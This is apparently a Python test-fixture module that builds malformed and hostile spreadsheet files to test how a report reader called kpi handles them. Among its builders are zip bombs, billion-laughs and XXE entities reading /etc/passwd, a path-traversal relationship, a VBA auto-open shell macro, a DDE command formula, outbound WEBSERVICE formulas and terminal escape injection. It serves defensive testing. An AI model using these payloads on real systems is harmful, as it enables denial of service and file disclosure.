"""Bad and hostile input, made by code: nothing binary is committed.

Each builder writes one file at ``path`` and returns it. Most start from ``base``, a valid
submission of CA_TINH for October 2024 built with the project's own template, and spoil it the
way a clerk, a broken mail client or an attacker would. tests/test_hostile.py says what kpi must
answer to each.
"""

from __future__ import annotations

import shutil
import struct
import unicodedata
import zipfile
import zlib
from datetime import datetime
from pathlib import Path

from workbooks import COVER, TG_SHEET, TT_SHEET, editing, row_of, set_value

GiB = 1 << 30

# --- containers: zip written byte by byte ---------------------------------------------------------


def _gf2_times(matrix: list[int], vector: int) -> int:
    total, i = 0, 0
    while vector:
        if vector & 1:
            total ^= matrix[i]
        vector >>= 1
        i += 1
    return total


def _gf2_square(matrix: list[int]) -> list[int]:
    return [_gf2_times(matrix, matrix[n]) for n in range(32)]


def crc32_combine(crc1: int, crc2: int, len2: int) -> int:
    """CRC-32 of A + B from the CRCs of A and B and the length of B (zlib's crc32_combine), so
    the checksum of gigabytes of zeros costs microseconds instead of seconds."""
    if len2 == 0:
        return crc1
    odd = [0xEDB88320] + [1 << n for n in range(31)]
    even = _gf2_square(odd)
    odd = _gf2_square(even)
    while True:
        even = _gf2_square(odd)
        if len2 & 1:
            crc1 = _gf2_times(even, crc1)
        len2 >>= 1
        if not len2:
            break
        odd = _gf2_square(even)
        if len2 & 1:
            crc1 = _gf2_times(odd, crc1)
        len2 >>= 1
        if not len2:
            break
    return crc1 ^ crc2


def deflated_zeros(size: int, chunk: int = 1 << 20) -> tuple[bytes, int]:
    """A raw deflate stream of ``size`` bytes of b"0" (a multiple of ``chunk``) and its CRC-32.

    One chunk is compressed once with a full flush, which resets the compressor: every further
    chunk compresses to the very same bytes, so the stream is that block repeated. Deflate
    cannot beat about 1:1030, so 3 GiB take 3 MB, written in milliseconds."""
    assert size % chunk == 0
    data = b"0" * chunk
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = compressor.compress(data) + compressor.flush(zlib.Z_FULL_FLUSH)
    tail = compressor.flush(zlib.Z_FINISH)
    count = size // chunk
    crc, length = 0, 0  # CRC of `count` chunks, by doubling
    part_crc, part_len = zlib.crc32(data), chunk
    while count:
        if count & 1:
            crc = crc32_combine(crc, part_crc, part_len) if length else part_crc
            length += part_len
        part_crc, part_len = crc32_combine(part_crc, part_crc, part_len), part_len * 2
        count >>= 1
    return block * (size // chunk) + tail, crc


def write_zip(path: Path, entries: list[tuple[str, bytes, int, int]], *, encrypted: str = "") -> Path:
    """A zip of (name, raw deflate data, CRC-32, declared size) entries, headers written as
    given (so they may lie); the entry named ``encrypted`` carries the 'encrypted' flag."""
    out, central = bytearray(), bytearray()
    for name, data, crc, size in entries:
        raw = name.encode()
        flags = 1 if name == encrypted else 0
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, flags, 8, 0, 0x5B21, crc, len(data),
                           size, len(raw), 0) + raw + data
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, flags, 8, 0, 0x5B21, crc,
                               len(data), size, len(raw), 0, 0, 0, 0, 0, offset) + raw
    out += central + struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries),
                                 len(central), len(out), 0)
    path.write_bytes(out)
    return path


def _deflate(data: bytes) -> bytes:
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    return compressor.compress(data) + compressor.flush()


def _parts(base: Path) -> list[tuple[str, bytes]]:
    with zipfile.ZipFile(base) as archive:
        return [(info.filename, archive.read(info)) for info in archive.infolist()]


def rezip(base: Path, path: Path, replace: dict[str, bytes] | None = None,
          add: dict[str, bytes] | None = None) -> Path:
    """``base`` zipped again with some parts replaced or added (sizes and CRCs honest)."""
    parts = dict(_parts(base))
    parts.update(replace or {})
    parts.update(add or {})
    return write_zip(path, [(n, _deflate(d), zlib.crc32(d), len(d)) for n, d in parts.items()])


def worksheet_part(base: Path, sheet: str) -> str:
    """The zip member holding ``sheet`` (openpyxl numbers them in sheet order)."""
    import openpyxl

    names = openpyxl.load_workbook(base, read_only=True).sheetnames
    return f"xl/worksheets/sheet{names.index(sheet) + 1}.xml"


# --- the file itself ---------------------------------------------------------------------------


def empty_file(path: Path, base: Path) -> Path:
    path.write_bytes(b"")
    return path


def text_named_xlsx(path: Path, base: Path) -> Path:
    path.write_text("Kính gửi Công an tỉnh: số liệu tháng 10 như sau ...", encoding="utf-8")
    return path


def truncated_zip(path: Path, base: Path) -> Path:
    """A download or mail attachment cut off: the first 60 % of a real workbook."""
    data = base.read_bytes()
    path.write_bytes(data[: len(data) * 6 // 10])
    return path


def zip_bomb(path: Path, base: Path, size: int = 3 * GiB) -> Path:
    """The workbook with one sheet replaced by ``size`` bytes of zeros, declared honestly."""
    zeros, crc = deflated_zeros(size)
    target = worksheet_part(base, TG_SHEET)
    entries = []
    for name, data in _parts(base):
        if name == target:
            entries.append((name, zeros, crc, size))
        else:
            entries.append((name, _deflate(data), zlib.crc32(data), len(data)))
    return write_zip(path, entries)


def lying_zip_bomb(path: Path, base: Path, size: int = 3 * GiB) -> Path:
    """As zip_bomb, but the headers declare the sheet's real small size, with the checksum of
    that many zeros: only a reader that stops at the declared size is safe."""
    zeros, _ = deflated_zeros(size)
    target = worksheet_part(base, TG_SHEET)
    entries = []
    for name, data in _parts(base):
        if name == target:
            entries.append((name, zeros, zlib.crc32(b"0" * len(data)), len(data)))
        else:
            entries.append((name, _deflate(data), zlib.crc32(data), len(data)))
    return write_zip(path, entries)


def empty_declared_zip_bomb(path: Path, base: Path, size: int = 3 * GiB) -> Path:
    """As lying_zip_bomb, but the headers declare the sheet empty (0 bytes, checksum 0): a
    reader that takes 0 as "no limit" expands all of it."""
    zeros, _ = deflated_zeros(size)
    target = worksheet_part(base, TG_SHEET)
    entries = [(name, zeros, 0, 0) if name == target
               else (name, _deflate(data), zlib.crc32(data), len(data)) for name, data in _parts(base)]
    return write_zip(path, entries)


def many_parts(path: Path, base: Path) -> Path:
    """The workbook with 20,000 empty extra parts: small, but each part costs time to look at."""
    entries = [(n, _deflate(d), zlib.crc32(d), len(d)) for n, d in _parts(base)]
    empty = _deflate(b"")
    return write_zip(path, entries + [(f"xl/media/x{i}.bin", empty, 0, 0) for i in range(20_000)])


def encrypted_zip_member(path: Path, base: Path) -> Path:
    """A zip whose sheet is flagged as encrypted with a (legacy zip) password."""
    target = worksheet_part(base, TG_SHEET)
    entries = [(n, _deflate(d), zlib.crc32(d), len(d)) for n, d in _parts(base)]
    return write_zip(path, entries, encrypted=target)


def _with_doctype(base: Path, path: Path, doctype: str, reference: str) -> Path:
    """The cover sheet with a DOCTYPE and ``reference`` typed as the reporter's name."""
    part = worksheet_part(base, COVER)
    xml = dict(_parts(base))[part]
    xml = xml.replace("Nguyễn Thị Hoa".encode(), reference.encode())
    head = f'<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE worksheet [{doctype}]>\n'
    return rezip(base, path, {part: head.encode() + xml})


def billion_laughs(path: Path, base: Path) -> Path:
    """XML entity expansion: &lol9; would expand to 10^9 'lol's (3 GB)."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, 10)]
    return _with_doctype(base, path, "".join(entities), "&lol9;")


def external_entity(path: Path, base: Path) -> Path:
    """XML external entity: &xxe; would pull in a file of the analyst's machine."""
    return _with_doctype(base, path, '<!ENTITY xxe SYSTEM "file:///etc/passwd">', "&xxe;")


def far_cell(path: Path, base: Path) -> Path:
    """Two cells far apart (A1 and XFD1048576): a 20 kB file whose sheet spans 17 billion
    cells; a reader that builds the rectangle dies of it."""
    shutil.copy(base, path)
    with editing(path) as wb:
        wb[TT_SHEET]["XFD1048576"] = 1
    return path


def ods_repeat_bomb(path: Path, base: Path) -> Path:
    """A minimal OpenDocument spreadsheet: one valued cell repeated over 16,384 columns of
    1,048,576 rows by two attributes."""
    return write_ods(path, [
        '<table:table-row><table:table-cell office:value-type="string"><text:p>META_AGENCY</text:p>'
        '</table:table-cell></table:table-row>'
        '<table:table-row table:number-rows-repeated="1048576">'
        '<table:table-cell office:value-type="float" office:value="1" '
        'table:number-columns-repeated="16384"><text:p>1</text:p></table:table-cell>'
        '</table:table-row>'])


def shared_strings_count(path: Path, base: Path) -> Path:
    """A shared-strings part that claims 4 billion strings: a reader reserving memory for them
    first asks for 96 GB and dies."""
    sst = (b'<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
           b'spreadsheetml/2006/main" count="4000000000" uniqueCount="4000000000">'
           b"<si><t>x</t></si></sst>")
    return rezip(base, path, add={"xl/sharedStrings.xml": sst})


def ods_spaces_bomb(path: Path, base: Path) -> Path:
    """An .ods cell holding a run of two billion spaces, in one short tag (<text:s text:c=.../>)."""
    return write_ods(path, [
        '<table:table-row><table:table-cell office:value-type="string"><text:p>META_AGENCY</text:p>'
        '</table:table-cell><table:table-cell office:value-type="string"><text:p>CA'
        '<text:s text:c="2000000000"/>TINH</text:p></table:table-cell></table:table-row>'])


def write_ods(path: Path, tables: list[str]) -> Path:
    """An .ods of the given table bodies (rows of table:table-row), nothing else."""
    ns = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
          'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
          'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"')
    body = "".join(f'<table:table table:name="Sheet{i + 1}">{rows}</table:table>'
                   for i, rows in enumerate(tables))
    content = (f'<?xml version="1.0" encoding="UTF-8"?><office:document-content {ns} '
               f'office:version="1.2"><office:body><office:spreadsheet>{body}'
               '</office:spreadsheet></office:body></office:document-content>')
    manifest = (
        '<?xml version="1.0" encoding="UTF-8"?><manifest:manifest '
        'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.2">'
        '<manifest:file-entry manifest:full-path="/" '
        'manifest:media-type="application/vnd.oasis.opendocument.spreadsheet"/>'
        '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>'
        '</manifest:manifest>')
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        archive.writestr("META-INF/manifest.xml", manifest, zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", content, zipfile.ZIP_DEFLATED)
    return path


def write_ole(path: Path, streams: dict[str, bytes]) -> Path:
    """An OLE compound file (the container of .xls and of encrypted .xlsx) holding ``streams``,
    each at least 4,096 bytes so that it sits in regular 512-byte sectors: sector 0 is the FAT,
    sector 1 the directory, then the streams one after the other."""
    end, free, fat_sector, nostream = 0xFFFFFFFE, 0xFFFFFFFF, 0xFFFFFFFD, 0xFFFFFFFF
    header = bytearray(512)
    header[0:8] = bytes.fromhex("D0CF11E0A1B11AE1")
    struct.pack_into("<HHHHH", header, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<IIIIIIIII", header, 40, 0, 1, 1, 0, 0x1000, end, 0, end, 0)
    struct.pack_into("<I", header, 76, 0)  # the FAT is sector 0
    header[80:512] = b"\xff" * 432

    def entry(name: str, kind: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = name.encode("utf-16-le") + b"\0\0"
        data = bytearray(128)
        data[0:len(raw)] = raw
        struct.pack_into("<HBBIII", data, 64, len(raw), kind, 1, nostream, right, child)
        struct.pack_into("<II", data, 116, start, size)
        return bytes(data)

    # Siblings in the directory are ordered by name length, then name: a chain of right links.
    names = sorted(streams, key=lambda n: (len(n), n.upper()))
    fat, body, directory = [fat_sector, end], b"", entry("Root Entry", 5, nostream, 1, end, 0)
    for i, name in enumerate(names):
        data = streams[name]
        assert len(data) >= 4096, "a short stream would belong in the mini stream"
        sectors, start = -(-len(data) // 512), len(fat)
        fat += list(range(start + 1, start + sectors)) + [end]
        body += data.ljust(sectors * 512, b"\0")
        directory += entry(name, 2, i + 2 if i + 1 < len(names) else nostream, nostream, start,
                           len(data))
    assert len(fat) <= 128 and len(directory) <= 512
    fat += [free] * (128 - len(fat))
    path.write_bytes(bytes(header) + struct.pack("<128I", *fat) + directory.ljust(512, b"\0") + body)
    return path


def encrypted_ooxml(path: Path, base: Path) -> Path:
    """An OLE container holding EncryptionInfo and EncryptedPackage streams, which is how Excel
    saves a password-protected .xlsx (the container is real; the 'encryption' is not)."""
    info = struct.pack("<HHI", 4, 4, 0x40) + b'<?xml version="1.0"?><encryption/>'
    package = struct.pack("<Q", len(base.read_bytes())) + bytes(range(256)) * 16
    return write_ole(path, {"EncryptionInfo": info.ljust(4096, b"\0"), "EncryptedPackage": package})


def _record(kind: int, data: bytes = b"") -> bytes:
    return struct.pack("<HH", kind, len(data)) + data


def write_xls(path: Path, cells: list[tuple[int, int, object]], extra: bytes = b"") -> Path:
    """A minimal .xls (BIFF8) with one sheet holding ``cells`` (row, column, text or number),
    positions written as given: the format allows 256 columns, the record holds 65,536.
    ``extra``: raw records appended to the sheet."""
    bof = struct.pack("<HHHHII", 0x0600, 0x0005, 0, 1997, 0, 6)
    strings = [v for _, _, v in cells if isinstance(v, str)]
    sst = _record(0x00FC, struct.pack("<ii", len(strings), len(strings)) + b"".join(
        struct.pack("<HB", len(s), 1) + s.encode("utf-16-le") for s in strings))

    def workbook_globals(sheet_at: int) -> bytes:
        sheet = _record(0x0085, struct.pack("<IBBBB", sheet_at, 0, 0, 6, 0) + b"Sheet1")
        return _record(0x0809, bof) + _record(0x0042, struct.pack("<H", 1200)) + sheet + sst + _record(0x000A)

    head = workbook_globals(len(workbook_globals(0)))
    sheet = _record(0x0809, struct.pack("<HHHHII", 0x0600, 0x0010, 0, 1997, 0, 6))
    for row, col, value in cells:
        if isinstance(value, str):
            sheet += _record(0x00FD, struct.pack("<HHHI", row, col, 0, strings.index(value)))
        else:
            sheet += _record(0x0203, struct.pack("<HHHd", row, col, 0, float(value)))
    stream = head + sheet + extra + _record(0x000A)
    stream += _record(0x0000, b"\0" * max(0, 4100 - len(stream)))  # past the mini stream cutoff
    return write_ole(path, {"Workbook": stream})


def xls_bad_merge(path: Path, base: Path) -> Path:
    """An .xls whose merged-cells record announces 1,000 ranges and holds none: the reader
    reads past the record's end and panics."""
    return write_xls(path, [(0, 0, "META_AGENCY"), (0, 4, "CA_TINH")],
                     extra=_record(0x00E5, struct.pack("<H", 1000)))


def xls_far_column(path: Path, base: Path) -> Path:
    """An .xls with a cell at row 65,536 and column 65,536: a 5 kB file whose sheet a reader
    would build as 4 billion cells."""
    return write_xls(path, [(0, 0, "META_AGENCY"), (0, 4, "CA_TINH"), (65535, 65535, 1)])


def xls_submission(path: Path, base: Path) -> Path:
    """The base submission as an .xls written byte by byte, every code row on one sheet (values
    are found by code, on any sheet); the date sent typed as text."""
    from kpi.read import read_code_rows

    cells: list[tuple[int, int, object]] = []
    for index, row in enumerate(read_code_rows(base)):
        value = row.value.strftime("%d/%m/%Y") if isinstance(row.value, datetime) else row.value
        cells += [(index, 0, row.code), (index, 4, value)]
    return write_xls(path, cells)


def damaged_xls(path: Path, base: Path) -> Path:
    """An .xls whose content after the OLE signature is noise."""
    path.write_bytes(bytes.fromhex("D0CF11E0A1B11AE1") + bytes(range(256)) * 8)
    return path


def csv_file(path: Path, base: Path) -> Path:
    path.write_text("META_AGENCY,CA_TINH\nTG_TIEP_NHAN,5\n", encoding="utf-8")
    return path


def xlsx_named_xls(path: Path, base: Path) -> Path:
    """A clerk 'converts' to the old format by renaming: .xlsx content, .xls name."""
    shutil.copy(base, path)
    return path


def macro_enabled(path: Path, base: Path) -> Path:
    """A macro-enabled workbook (.xlsm): the macro-enabled content type and a VBA project
    (an OLE container whose text asks to run a shell on opening). Nothing reads it."""
    parts = dict(_parts(base))
    types = parts["[Content_Types].xml"].replace(
        b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
        b"application/vnd.ms-excel.sheet.macroEnabled.main+xml").replace(
        b"</Types>", b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
                     b"</Types>")
    rels = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        b'<Relationship Id="rIdVba" Target="vbaProject.bin" '
        b'Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"/></Relationships>')
    vba = (bytes.fromhex("D0CF11E0A1B11AE1") + b"\0" * 504
           + b'Attribute VB_Name = "ThisWorkbook"\r\nSub Workbook_Open()\r\n'
             b'  Shell "cmd /c echo pwned > C:\\pwned.txt"\r\nEnd Sub\r\n')
    return rezip(base, path, {"[Content_Types].xml": types, "xl/_rels/workbook.xml.rels": rels},
                 add={"xl/vbaProject.bin": vba})


def excel_lock_file(path: Path, base: Path) -> Path:
    """What Excel leaves beside an open workbook: ~$name.xlsx, 165 bytes with the user's name."""
    owner = "Nguyen Thi Hoa"
    path.write_bytes(bytes([len(owner)]) + owner.encode("latin-1").ljust(53, b" ")
                     + owner.encode("utf-16-le").ljust(111, b" ")[:111])
    return path


def libreoffice_lock_file(path: Path, base: Path) -> Path:
    path.write_text("Nguyen Thi Hoa,hoa,PC-CA,16.10.2025 09:30,file:///home/hoa/.config;", "utf-8")
    return path


# --- the layout of the template -----------------------------------------------------------------


def _spoil(path: Path, base: Path, change) -> Path:
    shutil.copy(base, path)
    with editing(path) as wb:
        change(wb)
    return path


def renamed_sheet_resorted_rows(path: Path, base: Path) -> Path:
    def change(wb):
        ws = wb[TG_SHEET]
        ws.title = "Tin báo (sửa)"
        first, last = row_of(ws, "TG_TON_DAU_KY"), row_of(ws, "TG_KHOI_TO")
        rows = [[ws.cell(r, c).value for c in range(1, 7)] for r in range(first, last + 1)]
        for r, values in zip(range(first, last + 1), reversed(rows), strict=True):
            for c, value in enumerate(values, 1):
                ws.cell(r, c).value = value
    return _spoil(path, base, change)


def deleted_row(path: Path, base: Path) -> Path:
    return _spoil(path, base, lambda wb: wb[TG_SHEET].delete_rows(row_of(wb[TG_SHEET], "TG_KHOI_TO")))


def _under_table(ws) -> int:
    """The first row under the last coded row (above the signatures)."""
    return max(c.row for (c,) in ws.iter_rows(min_col=1, max_col=1) if c.value) + 1


def unknown_code_row(path: Path, base: Path) -> Path:
    def change(wb):
        ws = wb[TT_SHEET]
        row = _under_table(ws)
        ws.cell(row, 1, "TT_HOI_THAO")
        ws.cell(row, 5, 3)
    return _spoil(path, base, change)


def code_twice(path: Path, base: Path) -> Path:
    def change(wb):
        ws = wb[TT_SHEET]
        row = _under_table(ws)
        ws.cell(row, 1, "TT_TIN_BAI")
        ws.cell(row, 5, 99)
    return _spoil(path, base, change)


def merged_across_value(path: Path, base: Path) -> Path:
    """Unit and value cells of TG_TIEP_NHAN merged (D6:E6): Excel keeps the left cell only."""
    return _spoil(path, base, lambda wb: wb[TG_SHEET].merge_cells("D6:E6"))


def merged_down_value(path: Path, base: Path) -> Path:
    """Value cells of TG_TIEP_NHAN and TG_PHAN_LOAI merged (E6:E7): the upper value only."""
    return _spoil(path, base, lambda wb: wb[TG_SHEET].merge_cells("E6:E7"))


def hidden_rows_and_sheets(path: Path, base: Path) -> Path:
    def change(wb):
        ws = wb[TG_SHEET]
        for row in range(5, 10):
            ws.row_dimensions[row].hidden = True
        wb["DT Điều tra"].sheet_state = "hidden"
        wb["NX Xác định nạn nhân"].sheet_state = "veryHidden"
    return _spoil(path, base, change)


def formula_without_value(path: Path, base: Path) -> Path:
    """openpyxl (like many programs) saves a formula without its result."""
    return _spoil(path, base, lambda wb: set_value(wb, "TG_TIEP_NHAN", "=2+3"))


# --- what a clerk types -------------------------------------------------------------------------


def _typed(**values: object):
    def build(path: Path, base: Path) -> Path:
        def change(wb):
            for code, value in values.items():
                set_value(wb, code, value)
        return _spoil(path, base, change)
    return build


numbers_vietnamese = _typed(TT_LUOT_NGUOI="1.320", TT_TIN_BAI="15", TH_LUOT_CAN_BO="1.045")
numbers_english = _typed(TT_LUOT_NGUOI="1,320,000")
numbers_english_thousands = _typed(TT_LUOT_NGUOI="1,320")  # Vietnamese reads 1,32
numbers_fraction_hidden_by_float = _typed(TT_LUOT_NGUOI="320,0000000000000001")
numbers_unicode_spaces = _typed(
    TT_LUOT_NGUOI="\u00a0３２０\u202f", TT_TIN_BAI="1\u00a0234", TT_MANG_XA_HOI="\u200b30\ufeff",
    TT_BUOI_CONG_DONG="４")
period_fullwidth = _typed(META_PERIOD="１０/２０２４")
period_as_date_cell = _typed(META_PERIOD=datetime(2024, 10, 1))
period_out_of_coverage = _typed(META_PERIOD="01/2031")
unknown_agency = _typed(META_AGENCY="CA_HUYEN")
agency_decomposed = _typed(META_AGENCY=unicodedata.normalize("NFD", "Công an tỉnh"))
agency_markup = _typed(META_AGENCY="[/bold][link=file:///etc/passwd]CA[/link]")


def agency_escape_sequence(path: Path, base: Path) -> Path:
    """The agency typed with terminal escape sequences (retitle the window, turn text red),
    stored as Office Open XML stores control characters: _x001B_."""
    part = worksheet_part(base, COVER)
    xml = dict(_parts(base))[part]
    assert xml.count(b"<t>CA_TINH</t>") == 1
    xml = xml.replace(b"<t>CA_TINH</t>", b"<t>CA_x001B_]0;PWNED_x0007__x001B_[31mTINH</t>")
    return rezip(base, path, {part: xml})


def codes_fullwidth_and_invisible(path: Path, base: Path) -> Path:
    """Codes in column A typed in full-width letters, with a zero-width space or a BOM pasted
    from a chat, or decomposed (NFD, a no-op on ASCII codes but it must stay one)."""
    def change(wb):
        ws = wb[TG_SHEET]
        ws.cell(row_of(ws, "TG_TIEP_NHAN"), 1).value = "ＴＧ＿ＴＩＥＰ＿ＮＨＡＮ"
        ws.cell(row_of(ws, "TG_PHAN_LOAI"), 1).value = "TG_PHAN\u200b_LOAI\u00a0"
        ws.cell(row_of(ws, "TG_KHOI_TO"), 1).value = "\ufefftg_khoi_to"
        ws.cell(row_of(ws, "TG_TON_DAU_KY"), 1).value = unicodedata.normalize("NFD", "TG_TON_DAU_KY")
    return _spoil(path, base, change)


# --- trust: wrong numbers, wrong dates, files that say two things (issue 10) ------------------------

numbers_comma_thousands = _typed(TT_LUOT_NGUOI="2,000", TT_TIN_BAI="15,000")
numbers_comma_ambiguous_fraction = _typed(TT_LUOT_NGUOI="2,500")
numbers_comma_millions = _typed(TT_LUOT_NGUOI="2,000,000")
date_far_future_cell = _typed(META_SUBMITTED=datetime(9999, 12, 31))
date_far_future_text = _typed(META_SUBMITTED="31/12/2999")
date_year_2052 = _typed(META_SUBMITTED=datetime(2052, 10, 16))
date_before_the_period = _typed(META_SUBMITTED="01/08/2024")  # 10/2024 starts on 15/09/2024
period_of_another_month = _typed(META_PERIOD="09/2024")
error_typed_as_text = _typed(TG_TIEP_NHAN="#REF!")


def cover_part(base: Path) -> str:
    return worksheet_part(base, COVER)


def with_cells(base: Path, path: Path, sheet: str, cells: dict[str, str],
               add: dict[str, bytes] | None = None) -> Path:
    """``base`` with cells of ``sheet`` replaced by raw XML (``<c r="E6" ...>...</c>``), as
    Excel or another program would write them: cached formula results, error values."""
    import re

    part = worksheet_part(base, sheet)
    xml = dict(_parts(base))[part].decode()
    for ref, raw in cells.items():
        xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', raw, xml, count=1)
        assert n == 1, f"no cell {ref} on {sheet}"
    return rezip(base, path, {part: xml.encode()}, add=add)


def error_values(path: Path, base: Path) -> Path:
    """Formulas whose saved results are errors, as Excel writes them (t="e")."""
    return with_cells(base, path, TG_SHEET, {
        "E6": '<c r="E6" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
        "E8": '<c r="E8" t="e"><f>VLOOKUP(1,A1:A2,2,0)</f><v>#N/A</v></c>'})


def formulas_reaching_out(path: Path, base: Path) -> Path:
    """A valid file whose cells hold formulas that reach outside the workbook, each with the
    result Excel saved: a hyperlink as the reporter, a web service and a DDE call as values."""
    import re

    parts = dict(_parts(base))
    tg, cover = worksheet_part(base, TG_SHEET), worksheet_part(base, COVER)
    xml = parts[tg].decode()
    xml = re.sub(r'<c r="E6"[^>]*?(?:/>|>.*?</c>)',
                 '<c r="E6"><f>_xlfn.WEBSERVICE("http://example.invalid/?q="&amp;A1)*0+5</f>'
                 '<v>5</v></c>', xml, count=1)
    xml = re.sub(r'<c r="E7"[^>]*?(?:/>|>.*?</c>)',
                 "<c r=\"E7\"><f>cmd|' /C calc'!A0*0+5</f><v>5</v></c>", xml, count=1)
    cover_xml = parts[cover].decode()
    cover_xml = re.sub(r'<c r="E7"[^>]*?(?:/>|>.*?</c>)',
                       '<c r="E7" t="str"><f>HYPERLINK("http://example.invalid","Nguyễn Thị Hoa")</f>'
                       '<v>Nguyễn Thị Hoa</v></c>', cover_xml, count=1)
    return rezip(base, path, {tg: xml.encode(), cover: cover_xml.encode()})


def unsafe_formula_without_value(path: Path, base: Path) -> Path:
    """A web-service formula saved by a program without its result."""
    return with_cells(base, path, TG_SHEET, {
        "E6": '<c r="E6"><f>_xlfn.WEBSERVICE("http://example.invalid/")</f></c>'})


def name_of_another_agency(path: Path, base: Path) -> Path:
    """CA_TINH's file saved under BDBP's name (the test names it)."""
    shutil.copy(base, path)
    return path


def entity_in_core_properties(path: Path, base: Path) -> Path:
    """An entity in docProps/core.xml, a part kpi's reader never looks at but openpyxl parses
    when it makes the marked copy (a 25 kB file took 2.4 GB there)."""
    entities = ['<!ENTITY a0 "aaaaaaaaaa">'] + [
        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9)]
    core = dict(_parts(base))["docProps/core.xml"].decode()
    head, _, body = core.partition("?>")
    core = f'{head}?><!DOCTYPE cp:coreProperties [{"".join(entities)}]>' + body.replace(
        "<dc:creator>kpi</dc:creator>", "<dc:creator>&a8;</dc:creator>")
    return rezip(base, path, {"docProps/core.xml": core.encode()})


def dtd_in_utf16_styles(path: Path, base: Path) -> Path:
    """The styles part re-encoded as UTF-16 with a DTD: the DTD is found in any encoding."""
    styles = dict(_parts(base))["xl/styles.xml"].decode()
    head, _, body = styles.partition("?>")
    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]>' + body
    return rezip(base, path, {"xl/styles.xml": b"\xff\xfe" + text.encode("utf-16-le")})


def _with_shared_string(base: Path, path: Path, text: str, refs: list[str]) -> Path:
    """``base`` with a shared-strings part holding ``text`` once, named by the value cells
    ``refs`` of the TT sheet: a file of kilobytes whose cells hold megabytes once read."""
    import re

    parts = dict(_parts(base))
    part = worksheet_part(base, TT_SHEET)
    xml = parts[part].decode()
    for ref in refs:
        xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', f'<c r="{ref}" t="s"><v>0</v></c>',
                         xml, count=1)
        assert n == 1
    sst = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
           f'spreadsheetml/2006/main" count="{len(refs)}" uniqueCount="1"><si><t>{text}</t></si></sst>')
    types = parts["[Content_Types].xml"].replace(
        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
    rels = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>", b'<Relationship Id="rIdS" Target="sharedStrings.xml" Type="http://'
        b'schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>')
    return rezip(base, path, {part: xml.encode(), "[Content_Types].xml": types,
                              "xl/_rels/workbook.xml.rels": rels},
                 add={"xl/sharedStrings.xml": sst.encode()})


def ten_megabytes_in_a_cell(path: Path, base: Path) -> Path:
    """One value cell holding 9.9 MB of text (in a 30 kB file)."""
    return _with_shared_string(base, path, "A" * 9_900_000, ["E9"])


def ten_megabytes_in_many_cells(path: Path, base: Path) -> Path:
    """The same 9.9 MB string named by four value cells: 40 MB of text once read."""
    return _with_shared_string(base, path, "A" * 9_900_000, ["E6", "E7", "E8", "E9"])


def many_code_rows(path: Path, base: Path, rows: int = 200_000) -> Path:
    """200,000 rows with a code, five columns wide: inside the cell limit, far beyond any
    report (each row an unknown code, each a warning)."""
    import openpyxl

    wb = openpyxl.Workbook(write_only=True)
    cover = wb.create_sheet(COVER)
    cover.append(["META_AGENCY", None, None, None, "CA_TINH"])
    cover.append(["META_PERIOD", None, None, None, "10/2024"])
    data = wb.create_sheet("Số liệu")
    for r in range(rows):
        data.append([f"ZZ_R{r}", None, None, None, 1])
    wb.save(path)
    return path


def many_filled_cells(path: Path, base: Path) -> Path:
    """The valid file with a spare sheet of 120,000 filled cells (no codes)."""
    import openpyxl

    shutil.copy(base, path)
    wb = openpyxl.load_workbook(path)
    ws = wb.create_sheet("Phụ lục")
    for r in range(1, 12_001):
        for c in range(1, 11):
            ws.cell(r, c, r * c)
    wb.save(path)
    return path


def ratio_bomb_part(path: Path, base: Path) -> Path:
    """A picture part of 11 MB of zeros: under the 100 MB total, but 1000 times its packed size."""
    return rezip(base, path, add={"xl/media/image1.png": b"\0" * (11 * 1024 * 1024)})


def sheet_outside_the_file(path: Path, base: Path) -> Path:
    """The workbook's relationship for a sheet points outside the archive."""
    parts = dict(_parts(base))
    rels = parts["xl/_rels/workbook.xml.rels"].replace(
        b'Target="worksheets/sheet3.xml"', b'Target="../../../../etc/passwd"').replace(
        b'Target="/xl/worksheets/sheet3.xml"', b'Target="../../../../etc/passwd"')
    assert rels != parts["xl/_rels/workbook.xml.rels"]
    return rezip(base, path, {"xl/_rels/workbook.xml.rels": rels})


def negative_date_serial(path: Path, base: Path) -> Path:
    """The date sent as a date cell holding -5 (Excel shows #####)."""
    def change(wb):
        ws = wb[COVER]
        cell = ws.cell(row_of(ws, "META_SUBMITTED"), 5)
        cell.value = -5
        cell.number_format = "DD/MM/YYYY"
    return _spoil(path, base, change)


